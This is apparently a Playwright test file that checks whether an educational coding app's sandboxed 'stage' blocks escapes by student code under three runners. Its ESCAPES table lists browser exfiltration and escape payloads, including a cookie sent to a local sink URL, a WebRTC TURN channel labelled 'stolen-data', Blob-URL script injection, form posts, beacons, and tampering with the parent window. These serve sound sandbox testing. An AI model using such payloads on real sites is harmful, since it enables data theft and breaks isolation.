import type { Page } from "@playwright/test";
import { editorReady, expect, pickRunner, runFinished, test, typeProgram } from "./fixtures";
import { runCode, texts } from "./lanes";
import { openSink, type Sink } from "./sink";
import type { Run, Runner } from "../src/trace/run";

// Student code tries every way out of its stage it had before there was one (issue 11). Each
// attempt reports what happened and the program goes on, so a run that ends normally also
// proves the stage was not navigated away. What must hold, under every runner and from both
// entry points: nothing reaches the sink, the app's storage, DOM and automation are as before,
// and a normal program runs normally afterwards.

const HTTP_PORT = 4215;
const UDP_PORT = 4216;
let sink: Sink;

test.beforeAll(async () => {
  sink = await openSink(HTTP_PORT, UDP_PORT);
});
test.afterAll(async () => {
  await sink.close();
});

const SINK = `http://127.0.0.1:${HTTP_PORT}`;
const TURN = `turn:127.0.0.1:${UDP_PORT}?transport=udp`;

/** Each escape: statements run inside try/catch in main() (or at the top level, where said). */
const ESCAPES: Record<string, string> = {
  "location.href": `location.href = "${SINK}/href?d=" + String(document.cookie);`,
  "location.assign": `location.assign("${SINK}/assign");`,
  "window.open": `print("open gave", String(window.open("${SINK}/open")));`,
  "a link's click()": `for (const target of ["", "_blank", "_top", "_parent"]) { const a = document.createElement("a"); a.href = "${SINK}/link" + target; a.target = target; document.body.append(a); a.click(); }`,
  "a meta refresh": `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${SINK}/meta"; document.head.append(m);`,
  "a form post": `const f = document.createElement("form"); f.method = "post"; f.action = "${SINK}/form"; document.body.append(f); f.submit();`,
  "WebRTC to a TURN server": `const pc = new (globalThis as any).RTCPeerConnection({ iceServers: [{ urls: "${TURN}", username: "stolen-data", credential: "x" }] }); pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer());`,
  "a nested frame": `const f = document.createElement("iframe"); f.src = "${SINK}/frame"; document.body.append(f); await sleep(300); print("frame reached", String(f.contentWindow?.length));`,
  "a Blob-URL script": `const s = document.createElement("script"); s.src = URL.createObjectURL(new Blob(["location.href = '${SINK}/blob-script'; for (;;) {}"])); document.head.append(s);`,
  // (An <img> to another host is refused by the stage's CSP and reaches no sink, but Playwright still reports it as a request.)
  "requests of every kind": `navigator.sendBeacon("${SINK}/beacon", "x"); try { new WebSocket("ws://127.0.0.1:${HTTP_PORT}/ws"); } catch (e) { print("ws", (e as Error).name); } await fetch("${SINK}/fetch").catch((e) => print("fetch", (e as Error).name));`,
  "the app's window": `print("parent", (() => { try { return String((parent as any).__lanes); } catch (e) { return (e as Error).name; } })()); print("top", (() => { try { return String(top!.document.title); } catch (e) { return (e as Error).name; } })()); parent.postMessage({ type: "lanes:run" }, "*");`,
  "localStorage": `localStorage.setItem("lanes-progress", "{}");`,
  "window.__lanes": `(window as any).__lanes = { run: () => Promise.resolve([]) }; print("own __lanes only");`,
};

function program(attempt: string): string {
  return `import { print, sleep } from "lanes";
export default async function main() {
  try {
    ${attempt}
    print("attempted");
  } catch (e) {
    print("refused:", (e as Error).name, (e as Error).message);
  }
  await sleep(300);
  print("still on stage");
}
`;
}

const NORMAL = `import { Pool, print, sleep } from "lanes";
export async function twice(n: number) { await sleep(5); return n * 2; }
export default async function main() { print((await new Pool({ workers: 2 }).map(twice, [1, 2, 3])).join(",")); }
`;

interface AppState {
  storage: string;
  dom: string;
  automation: boolean;
}

/** What the program must not change: storage, the app's DOM (the stages aside), the automation object. */
async function appState(page: Page, outside?: string): Promise<AppState> {
  // The app renders after the prerendered page is painted: compare its DOM, not the static one.
  await page.locator("html[data-app=ready]").waitFor({ state: "attached" });
  return page.evaluate((skip) => {
    const copy = document.documentElement.cloneNode(true) as HTMLElement;
    copy.querySelectorAll(".stage-parking, .stage-frame").forEach((el) => el.remove());
    if (skip) copy.querySelectorAll(skip).forEach((el) => el.remove());
    // The app itself notes that a playground ran (its "ran" fingerprints judge predictions):
    // that is the app's own write, not the program's, so it is left out of the comparison.
    const withoutRan = (value: string) => {
      try {
        return JSON.stringify(JSON.parse(value), (key, v: unknown) => (key === "ran" ? undefined : v));
      } catch {
        return value;
      }
    };
    const storage = JSON.stringify(Object.entries(localStorage).map(([k, v]) => [k, withoutRan(v)]).sort());
    const w = window as unknown as { __lanes?: { run: unknown }; __lanesRunAtStart?: unknown };
    w.__lanesRunAtStart ??= w.__lanes?.run;
    return { storage, dom: copy.outerHTML, automation: w.__lanes?.run === w.__lanesRunAtStart && typeof w.__lanes?.run === "function" };
  }, outside);
}

const RUNNERS: Runner[] = ["main", "async", "workers"];

/**
 * The program went on to its end on its stage, or (a navigation nothing inside a frame can
 * cancel) its stage was navigated, to the site only, and the app ended the run saying so.
 */
function endedWell(run: Run): boolean {
  return texts(run).at(-1) === "still on stage" || /navigated its page away/.test(run.error?.message ?? "");
}

test.describe("escapes from window.__lanes.run", () => {
  for (const [name, attempt] of Object.entries(ESCAPES)) {
    test(`${name}: blocked under every runner`, async ({ page }) => {
      await page.goto("/");
      await page.evaluate(() => localStorage.setItem("lanes-escape-canary", "kept"));
      const before = await appState(page);
      const runs = await runCode(page, program(attempt), RUNNERS);
      expect(runs.map((r) => r.runner)).toEqual(RUNNERS);
      for (const run of runs) expect(endedWell(run), `${run.runner}: ${JSON.stringify(run.error)} ${texts(run).join(" | ")}`).toBe(true);
      await page.waitForTimeout(300); // anything late would arrive now
      expect(sink.hits()).toEqual([]);
      expect(await appState(page)).toEqual(before);
      const normal = await runCode(page, NORMAL, RUNNERS);
      for (const run of normal) expect(texts(run), run.runner).toEqual(["2,4,6"]);
    });
  }

  test("an escape in top-level code is blocked too: the stage is made before the program loads", async ({ page }) => {
    await page.goto("/");
    const before = await appState(page);
    const code = `import { print } from "lanes";
location.href = "${SINK}/top-level";
const f = document.createElement("iframe"); f.src = "${SINK}/top-level-frame"; document.body.append(f);
export default function main() { print("loaded on stage"); }
`;
    const runs = await runCode(page, code, RUNNERS);
    for (const run of runs) expect(texts(run).join("") === "loaded on stage" || endedWell(run), run.runner).toBe(true);
    await page.waitForTimeout(300);
    expect(sink.hits()).toEqual([]);
    expect(await appState(page)).toEqual(before);
  });
});

test("escapes from the Run button: blocked under every runner, nothing of the app changes", async ({ page }) => {
  test.setTimeout(180_000);
  await page.goto("/lessons/01-waiting-is-not-working");
  const playground = page.getByTestId("playground-p1");
  await editorReady(page, playground);
  // One click runs all three runners, one after another, as a student's "All three" does: each
  // escape is tried under every runner through the button's own path.
  await pickRunner(playground, "All three");
  for (const name of ["location.href", "a link's click()", "a meta refresh", "WebRTC to a TURN server", "a Blob-URL script", "localStorage", "window.__lanes"]) {
    const attempt = ESCAPES[name]!;
    await typeProgram(page, playground, program(attempt));
    await page.waitForTimeout(600); // the draft is saved: what follows must change nothing
    const before = await appState(page, `[data-testid="playground-p1"]`);
    await playground.getByRole("button", { name: "Run" }).click();
    await runFinished(page, playground);
    const runs = await page.evaluate(() => window.__lanes!.lastRuns());
    expect(runs.map((r) => r.runner), name).toEqual(RUNNERS);
    for (const run of runs) expect(endedWell(run), `${run.runner}: ${name}: ${JSON.stringify(run.error)} ${texts(run).join(" | ")}`).toBe(true);
    expect(sink.hits(), name).toEqual([]);
    expect(await appState(page, `[data-testid="playground-p1"]`), name).toEqual(before);
  }
  await typeProgram(page, playground, NORMAL);
  await playground.getByRole("button", { name: "Run" }).click();
  await runFinished(page, playground);
  await expect(playground.getByRole("log", { name: "Program output" })).toContainText("2,4,6");
  await page.waitForTimeout(300);
  expect(sink.hits()).toEqual([]);
});
